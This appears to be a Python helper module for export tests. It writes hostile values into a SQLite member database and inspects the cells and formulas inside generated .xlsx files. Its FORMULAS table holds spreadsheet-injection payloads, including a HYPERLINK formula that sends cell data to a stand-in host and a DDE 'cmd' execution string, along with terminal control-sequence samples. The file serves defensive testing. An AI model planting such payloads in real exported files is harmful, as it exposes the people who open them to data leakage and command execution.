"""Hostile text planted straight into a database (as an old version or another tool may have
stored it), and a reader of what an .xlsx really holds (cell types, formulas), for the export
tests. Not a test module."""

from __future__ import annotations

import re
import sqlite3
import zipfile
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

#: Values a spreadsheet application would run as formulas (or show as errors) if written as
#: anything but text; the OWASP CSV-injection list: = + - @ tab CR, and the error literals.
FORMULAS = {
    "given_names": "=1+1",
    "paternal_surname": '=HYPERLINK("http://leak.example/?d="&A2,"clic")',
    "maternal_surname": "+1+1",
    "city": "-1+1",
    "state": "@SUM(1+1)",
    "employer": "\t=1+1",
    "job_title": "\r=1+1",
    "institution": "#N/A",
    "field_of_study": "#REF!",
    "expertise": "=cmd|' /C calc'!A0",
    "notes": "=2+2",
}
#: The e-mail address that validates and is still a formula.
FORMULA_EMAIL = "=1+1@example.com"

#: Control characters a name or place should never hold, already stored.
CONTROLS = {
    "given_names": "Beto\x1b[1m",
    "paternal_surname": "Nu\x00ñez",
    "maternal_surname": "Ávila\x07",
    "city": "Mon\x0bterrey",
    "employer": "Acme\x9b31m",  # a C1 control (CSI)
    "notes": "línea\x1b]0;título\x07",
}

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def without_controls(text: str) -> str:
    return _CONTROL.sub("", text)


def plant(db_path: Path, member_id: int, values: dict[str, str], *, email: str | None = None) -> None:
    """Overwrite a member's fields with raw SQL; consent to appear with every contact field."""
    con = sqlite3.connect(db_path)
    try:
        sets = ", ".join(f"{field} = ?" for field in values)
        params: list[object] = list(values.values())
        if email is not None:
            sets += ", email = ?"
            params.append(email)
        con.execute(
            f"UPDATE members SET {sets}, directory_consent = 1, print_fields = 'email,phone,city,employer' "
            "WHERE id = ?",
            [*params, member_id],
        )
        con.commit()
    finally:
        con.close()


def run_sql(db_path: Path, sql: str, params: tuple[object, ...] = ()) -> None:
    con = sqlite3.connect(db_path)
    try:
        con.execute(sql, params)
        con.commit()
    finally:
        con.close()


@dataclass(frozen=True)
class XlsxCell:
    sheet: str
    ref: str
    type: str  # the t attribute ("n" when absent)
    text: str | None  # the string shown, for string cells
    formula: bool


def xlsx_cells(path: Path) -> list[XlsxCell]:
    """Every cell of every worksheet as stored in the file's XML."""
    cells: list[XlsxCell] = []
    with zipfile.ZipFile(path) as archive:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in archive.namelist():
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{_MAIN}t")) for si in root]
        for name in sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")):
            root = ElementTree.fromstring(archive.read(name))
            for c in root.iter(f"{_MAIN}c"):
                kind = c.get("t", "n")
                text: str | None = None
                if kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(f"{_MAIN}t"))
                elif kind == "s":
                    v = c.find(f"{_MAIN}v")
                    text = shared[int(v.text or "0")] if v is not None else None
                elif kind == "str":
                    v = c.find(f"{_MAIN}v")
                    text = v.text if v is not None else None
                cells.append(XlsxCell(name, c.get("r", ""), kind, text, c.find(f"{_MAIN}f") is not None))
    return cells


def texts(path: Path) -> set[str]:
    """The text of every string cell (inline or shared)."""
    return {c.text for c in xlsx_cells(path) if c.type in ("inlineStr", "s") and c.text is not None}
